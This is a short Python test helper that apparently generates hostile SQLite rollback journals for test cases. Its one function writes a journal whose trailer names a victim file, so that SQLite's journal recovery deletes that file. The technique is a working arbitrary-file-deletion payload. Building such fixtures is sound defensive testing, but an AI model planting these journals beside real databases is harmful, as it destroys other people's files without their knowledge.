"""Journals that mean harm, as somebody else would leave them beside a case."""

import os
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def journal_naming(victim: Path) -> bytes:
    """Return a journal whose end names a file: SQLite deletes it, and changes nothing else."""
    name = os.fsencode(victim)
    # SQLite adds up the bytes as C does: those past 127 are negative.
    checksum = sum(byte - 256 if byte > 127 else byte for byte in name) & 0xFFFFFFFF
    end = len(name).to_bytes(4, "big") + checksum.to_bytes(4, "big") + _MAGIC
    return b"\1".ljust(512, b"\0") + name + end
